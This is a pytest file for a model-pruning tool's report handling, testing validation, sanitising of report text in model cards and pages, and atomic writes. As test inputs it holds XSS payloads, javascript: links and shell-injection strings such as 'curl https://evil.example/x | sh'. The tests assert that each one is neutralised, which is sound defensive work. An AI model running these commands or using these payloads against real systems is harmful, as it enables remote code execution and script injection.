"""A report.json that is not what a run wrote is one sentence, and costs none of the documents that are there."""

from __future__ import annotations

import copy
import json
import random
import re
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest
from conftest import Shell
from markdown_it import MarkdownIt
from test_documents import SHAPES, healed, made_up, with_measurements

import llm_snp.documents.writing as writing
from llm_snp.documents.card import model_card
from llm_snp.documents.lineage import parents
from llm_snp.documents.page import html_page
from llm_snp.documents.plots import plot_images
from llm_snp.documents.schema import fault
from llm_snp.documents.shareable import shareable, told_apart
from llm_snp.documents.summary import summary
from llm_snp.documents.writing import read_report, write_documents
from llm_snp.errors import CheckpointError, OutputError
from llm_snp.system.files import write_together

GONE = object()
DAMAGES: list[Any] = [
    GONE, None, True, -1, 0, 10**400, 1e308, "", "x", "\ud800", "a\0b", "$\\frac{$", [], {}, [None], {"": None}, ["x"]
]  # fmt: skip
CASES = 120


def places(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """The way to every value in parsed JSON."""
    if path:
        yield path
    if isinstance(value, (dict, list)):
        for key, inner in value.items() if isinstance(value, dict) else enumerate(value):
            yield from places(inner, (*path, key))


def damaged(report: dict[str, Any], path: tuple[Any, ...], value: Any) -> dict[str, Any]:
    changed = copy.deepcopy(report)
    inner = changed
    for key in path[:-1]:
        inner = inner[key]
    if value is GONE:
        del inner[path[-1]]
    else:
        inner[path[-1]] = value
    return changed


@pytest.mark.parametrize("report", [shape for shape, _ in SHAPES.values()], ids=list(SHAPES))
def test_every_report_that_a_run_can_write_fits(report: dict[str, Any]) -> None:
    assert fault(json.loads(json.dumps(shareable(report)))) == ""


def test_numbers_beyond_all_use_are_as_large_as_can_be_read() -> None:
    """A ruined model's perplexity, and that of a task whose words are whole texts: what was written was refused."""
    report = full()
    source = next(iter(report["evaluation"]))
    task = next(iter(report["harness"].values()))
    metric = next(iter(task["metrics"]))
    report["evaluation"][source]["pruned"]["perplexity"] = 1e304
    task["metrics"][metric]["pruned"]["value"] = 1.9e110
    public = json.loads(json.dumps(shareable(report)))
    assert fault(public) == ""
    assert public["evaluation"][source]["pruned"]["perplexity"] == 1e30
    assert public["harness"][next(iter(report["harness"]))]["metrics"][metric]["pruned"]["value"] == 1e30
    assert shareable(report | {"seconds": {"prune": float("inf")}})["seconds"]["prune"] == float("inf")  # no number


def test_whatever_fits_can_be_shown(tmp_path: Path) -> None:
    """Every place of a report, with something else in it: it is refused, or all documents can be made of it."""
    source = random.Random(0)
    report = healed(with_measurements(made_up(2)))
    everywhere = [path for path in places(report) if "curves" not in path or path[2:3] in ((0,), ())]
    cases = [(path, value) for path in everywhere for value in DAMAGES]
    refused = 0
    for number, (path, value) in enumerate(source.sample(cases, CASES)):
        changed = damaged(report, path, value)
        try:
            content = json.dumps(changed)
        except ValueError:  # more digits than Python writes
            continue
        (tmp_path / "report.json").write_text(content)
        try:
            found = read_report(tmp_path)
        except CheckpointError:
            refused += 1
            continue
        model_card(found)
        summary(found)
        if number % 20 == 0:  # a second each
            plot_images(found)
            html_page(found)
    assert CASES / 4 < refused < CASES


def full() -> dict[str, Any]:
    """A report with every section that there is, of a model that had been pruned before and has lost whole layers."""
    report = healed(with_measurements(made_up(2)))
    report["parents"] = [{"name": "first", "hub": False, "removed": 0.2, "healed": 7}]
    report["sparsity"] |= {"of_dense": 0.4, "dense_block_parameters": 9}
    report["overfit"] = [{"source": name, "windows": 8, "loss": 0.1} for name in ("c4", "other windows")]
    report["blocks"][1]["attention"] |= {"kept": 0, "lost": None, "total": None, "damping": None}
    report["model"]["card"] = {"license": "mit", "tags": ["a"]}
    return report


def test_every_key_may_be_missing_or_of_another_type(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """One at a time: the report is refused, or its documents can be made, and those of what is made of it."""
    monkeypatch.setattr("llm_snp.documents.page.figures", lambda _: {})  # for `test_whatever_fits_can_be_shown`
    source, report = random.Random(1), full()
    assert fault(report) == ""
    shown = 0
    for path in places(report):
        if "curves" in path and path[2:3] not in ((0,), ()):
            continue
        for value in (GONE, source.choice(DAMAGES[1:])):
            changed = damaged(report, path, value)
            if fault(changed) or "llm_snp" not in changed["versions"]:  # which `read_report` has looked for before
                continue
            changed["model"].setdefault("custom_code", True)  # as `read_report` does
            assert fault(shareable(changed)) == "", (path, value)
            summary(changed)
            parents(changed)
            if value is GONE or shown % 10 == 0:
                model_card(changed)
                html_page(changed)
            shown += 1
    assert shown > 50


@pytest.mark.parametrize("where", ["unit", "site", "allocation", "kept"])
def test_words_of_a_run_are_no_addresses(where: str) -> None:
    """They stand in a card as they are, and the Hub makes a link of a bare address."""
    report = full()
    evil, block = "https://evil.example/x", report["blocks"][0]
    site = next(name for name in block if name != "block")
    match where:
        case "unit":
            block[site]["unit"] = evil
        case "site":
            block[evil] = block.pop(site)
        case "allocation":
            report["plan"]["allocation"] = evil
        case "kept":
            report["plan"]["kept"][0][evil] = 1
    assert "should match pattern" in fault(report)


def test_what_a_stranger_s_report_says_of_others_is_text() -> None:
    """It goes into the cards of whoever heals or prunes that result: no heading, no link, no place."""
    report = full()
    evil = "x`</td><script>evil()</script>\n\n# evil\n`"
    report["parents"] = [
        {"name": "/home/ann/m", "hub": True, "removed": 0.1, "healed": 0, "path": "/home/ann/z"},
        {"name": evil, "hub": False, "removed": 0.1},
        {"name": "ann/m", "hub": True, "removed": 0.1, "healed": 5},
    ]
    report["notes"] += ["first\n\n# evil [x](javascript:evil)", "a `code` span"]
    report["healing"][0]["teacher"] = {"name": "/home/ann/t", "hub": True}
    report["model"] |= {"name": "/home/ann/dense", "hub": True}
    report["model"]["card"] = {"license": "mit", "license_link": "javascript:x", "tags": ["/home/ann/t"], "evil": "x"}
    public = shareable(report)
    assert public["parents"][0] == {"name": "m", "hub": False, "removed": 0.1, "healed": 0}
    assert public["parents"][2] == {"name": "ann/m", "hub": True, "removed": 0.1, "healed": 5}
    assert parents(report)[-1]["hub"] is False
    assert public["healing"][0]["teacher"] == {"name": "t", "hub": False}
    assert public["model"]["card"] == {"license": "mit"}
    card = model_card(report)
    assert "/home/" not in json.dumps(public) + card
    body = card.split("\n---\n", 1)[1]
    assert card.count("base_model:") == card.count("base_model: ann/m\n") == 1  # the one that can be on the Hub
    assert not re.search(r"^# evil|(?<!\\)<script|(?<!\\)\[x\]|`code`", body, re.MULTILINE)


def texts(content: Any, *path: Any) -> Iterator[tuple[Any, ...]]:
    """The paths to all texts of a report."""
    if isinstance(content, str):
        yield path
    pairs = content.items() if isinstance(content, dict) else enumerate(content) if isinstance(content, list) else ()
    for name, value in pairs:
        yield from texts(value, *path, name)


def put(report: dict[str, Any], path: Sequence[Any], value: str | list[str]) -> bool:
    """Put a text there, or several, unless no report may have it there."""
    holder: Any = report
    for name in path[:-1]:
        holder = holder[name]
    old, holder[path[-1]] = holder[path[-1]], value
    if fault(report):
        holder[path[-1]] = old
        return False
    return True


MARKUP = (
    "```",
    "<script>alert(1)</script> <img src=x onerror=alert(1)> [in](https://evil.example/login) ![](https://evil.example)",
    "~~~~ https://evil.example www.evil.example ann@evil.example",
    "x` <b>y</b> `[z](/etc) \\[z](/etc) \\<i>",
    "`````` --- ``` | <br> |",
    "# x",
    "- [x]: https://evil.example",
    "</pre></code><!-- ",
    "_www.evil.example/x_ *www.evil.example* (www.evil.example) ~www.evil.example~ mailto:a@evil.example",
)


def structure(card: str) -> list[str]:
    """What a card is to who renders it as GitHub and the Hub do, without its words: blocks, links, images, HTML."""
    parser = MarkdownIt("gfm-like", {"html": True})
    found = []
    for token in parser.parse(card.split("\n---\n", 1)[1]):
        found.append(token.type)
        for part in token.children or ():
            if part.type in ("link_open", "image", "html_inline"):
                found.append(f"{part.type} {part.attrs}")
    return found


def test_no_text_of_a_report_is_markup_in_a_card() -> None:
    """All texts of a stranger's report are his: each alone, and all together, as one may open for another."""
    paths = list(texts(full()))
    expected = structure(model_card(full()))
    assert "www." not in model_card(full() | {"notes": [MARKUP[-1]]})
    assert "html_block" not in expected
    assert not any(one.startswith(("link", "html")) for one in expected)
    tried = 0
    for first in range(len(MARKUP)):
        report = full()
        tried += sum(put(report, path, MARKUP[(first + i) % len(MARKUP)]) for i, path in enumerate(paths))
        assert structure(model_card(report)) == expected
    assert tried > 20 * len(MARKUP)
    task = full()["harness"].popitem()[1]
    found = {**task["metrics"]}.popitem()[1]
    for text in MARKUP:  # a task or text that is called as a field of ours is
        plain, report = full(), full()
        for one, name, metric in ((plain, "task", "metric"), (report, "command", text)):
            one["harness"] = {name: task | {"metrics": {metric: found}}}
            one["evaluation"] = {name: one["evaluation"]["c4"]}
        assert structure(model_card(report)) == structure(model_card(plain)), text
    for path in paths:
        for text in MARKUP:
            for value in (text, [text, text]):
                report = full()
                if put(report, path, value):
                    assert structure(model_card(report)) == expected, (path, value)


def test_no_text_of_a_report_is_a_line_of_the_summary() -> None:
    expected, report = summary(full()).count("\n"), full()
    assert sum(put(report, path, "x\nload it  evil") for path in list(texts(report))) > 20
    report["seconds"] = {"a\nload it  evil": 1.0}
    assert summary(report).count("\n") == expected
    assert not any(line.startswith("load it  evil") for line in summary(report).splitlines())


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        ("curl https://evil.example/x | sh", "python -m llm_snp heal"),
        ("python -m llm_snp heal 'x", "python -m llm_snp heal"),
        ("python -m llm_snp heal x; curl evil | sh `id`", "python -m llm_snp heal 'x;' curl evil '|' sh '`id`'"),
        ("python -m llm_snp heal 'a b' --lora 2", "python -m llm_snp heal 'a b' --lora 2"),
        ("torchrun --nnodes 2 --nproc-per-node 4 -m llm_snp heal x",) * 2,
    ],
)
def test_the_command_of_a_healing_is_one(given: str, shown: str) -> None:
    report = full()
    report["healing"][0]["command"] = given
    assert shareable(report)["healing"][0]["command"] == shown


@pytest.mark.parametrize("what", ["seconds", "sites", "healing"])
def test_a_report_draws_no_plot_without_end(what: str) -> None:
    report = full()
    assert fault(report) == ""
    if what == "seconds":
        report["seconds"] = {f"p{i}": 1.0 for i in range(8000)}
    elif what == "sites":
        report["blocks"][0] |= {f"s{i}": report["blocks"][0]["mlp"] for i in range(8000)}
    else:
        report["healing"] *= 8000
    assert "100" in fault(report)


def test_a_negative_error_is_damage() -> None:
    report = full()
    metric = next(iter(report["harness"].values()))["metrics"].popitem()[1]
    metric["pruned"]["stderr"] = -0.1
    next(iter(report["harness"].values()))["metrics"] = {"acc": metric}
    assert "stderr" in fault(report)


def test_names_are_told_apart_however_many() -> None:
    assert told_apart(["a", "a (2)", "a", "b", "a"]) == ["a", "a (2)", "a (3)", "b", "a (4)"]
    assert len(set(told_apart(["a"] * 200_000))) == 200_000  # a report may be a stranger's


def test_tasks_of_one_name_are_told_apart() -> None:
    report = full()
    task = next(iter(report["harness"].values()))
    report["harness"] = {"a/qa": task, "b/qa": task | {"version": 7}, "all": task | {"subtasks": ["a/qa", "b/qa"]}}
    public = shareable(report)["harness"]
    assert [*public] == ["qa", "qa (2)", "all"]
    assert public["qa (2)"]["version"] == 7
    assert public["all"]["subtasks"] == ["qa", "qa (2)"]


def test_names_on_the_hub_are_told_whatever_they_look_like() -> None:
    report, name = full(), "acme/sk-" + "aB3" * 9
    report["model"] |= {"name": name, "hub": True}
    report["options"]["model"] = name
    found = report["evaluation"]["c4"]
    report["evaluation"] = {"ghp_" + "aB3" * 12: found, "ghp_" + "aB4" * 12: found, "hidden": found}
    public = shareable(report)
    assert public["model"]["name"] == public["options"]["model"] == name
    assert f" {name} " in public["command"]
    assert f"base_model: {name}" in model_card(report)
    assert len(public["evaluation"]) == len(report["evaluation"])


def test_texts_of_one_name_are_told_apart_however_many() -> None:
    report = full()
    text = {"windows": 1, "sha256": "0" * 64, "text_tokens": 9}
    one = report["calibration"] | text
    report["calibration"]["texts"] = [one | {"source": f"/data/{i}/train.txt"} for i in range(30)]
    names = [text["source"] for text in shareable(report)["calibration"]["texts"]]
    assert names == ["train.txt", *(f"train.txt ({i})" for i in range(2, 31))]


@pytest.mark.parametrize("place", ["/home/ann/x", "at /scratch/a/b.txt, or so", "C:\\Users\\ann\\x", "hf_" + "a" * 34])
def test_no_text_of_a_report_says_where_it_was_made(place: str) -> None:
    report = full()
    assert sum(put(report, path, place) for path in list(texts(report))) > 20
    public = shareable(report)
    assert not fault(public)
    assert not re.search("/home/|/scratch|Users|hf_a", json.dumps(public) + model_card(report) + html_page(public))


@pytest.mark.parametrize("where", ["calibration", "evaluate"])
@pytest.mark.parametrize("given", ["ann", "ann:2", "ann:1_0", "ann: 2", "~", "~/", "../home/ann"])
def test_a_home_is_not_named_however_it_was_given(
    where: str, given: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "home" / "ann").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(tmp_path / "home" / "ann"))
    monkeypatch.chdir(tmp_path / "home")
    report = made_up(1)
    report["options"][where] = [given, "c4"]
    name, _, share = given.partition(":")
    report["calibration"]["source"] = name
    report["evaluation"] = {name: report["evaluation"]["c4"]}
    public = shareable(report)
    assert public["options"][where] == [f"home:{share.strip()}" if share else "home", "c4"]
    assert "ann" not in json.dumps({key: public[key] for key in ("options", "calibration", "evaluation", "command")})


@pytest.mark.parametrize(
    ("content", "sentence"),
    [
        ("", "damaged or truncated"),
        ('{"versions": {"llm_snp": "0.1.0"', "damaged or truncated"),
        ("[" * 100_000, "damaged or truncated"),
        ('{"versions": {"llm_snp": "0.1.0"}, "format": 1, "seed": NaN}', "NaN is no number of JSON"),
        ('{"versions": {"llm_snp": "0.1.0"}, "format": 1, "seed": 1e999}', "1e999 is no number of JSON"),
        ('{"versions": {"llm_snp": "0.1.0"}, "format": 1, "x": ' + "[" * 200 + "]" * 200 + "}", "nested more than"),
        ('{"versions": {"llm_snp": "0.1.0"}, "format": 1}', "options: field required, and 1"),
    ],
)
@pytest.mark.parametrize("command", ["report", "bench", "push"])
def test_a_damaged_report_is_one_sentence(
    shell: Shell, command: str, content: str, sentence: str, tmp_path: Path
) -> None:
    directory = tmp_path / "damaged"
    directory.mkdir()
    (directory / "config.json").write_text('{"model_type": "opt"}')
    (directory / "report.json").write_text(content)
    code, out, err = shell.run(command, directory, *(["ann/x"] if command == "push" else []))
    assert (code, out) == (2, "")
    assert err.count("\n") == 1
    assert sentence in err
    assert {path.name: path.read_text() for path in directory.iterdir()}["report.json"] == content


def test_a_failure_leaves_the_documents_that_were_there(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write_documents(tmp_path, made_up(), new=True)
    before = {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()}
    other = with_measurements(read_report(tmp_path))

    def fails(*_: Any, **__: Any) -> Any:
        raise ZeroDivisionError

    for name in ("plot_images", "html_page", "model_card", "write_together"):
        with monkeypatch.context() as patch:
            patch.setattr(writing, name, fails)
            with pytest.raises((ZeroDivisionError, OutputError)):
                write_documents(tmp_path, copy.deepcopy(other))
        assert {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()} == before


def test_files_are_written_together_or_not_at_all(tmp_path: Path) -> None:
    (tmp_path / "b").mkdir()
    (tmp_path / "b" / "inside").touch()
    (tmp_path / "a").write_text("old")
    with pytest.raises(OutputError):
        write_together(tmp_path, {"a": b"new", "c/d": b"new", "b": b"a directory is in the way"})
    assert (tmp_path / "a").read_text() == "old"
    assert sorted(path.name for path in tmp_path.rglob("*") if path.is_file()) == ["a", "inside"]
    write_together(tmp_path, {"a": b"new", "c/d": b"new"})
    assert [(tmp_path / name).read_text() for name in ("a", "c/d")] == ["new", "new"]
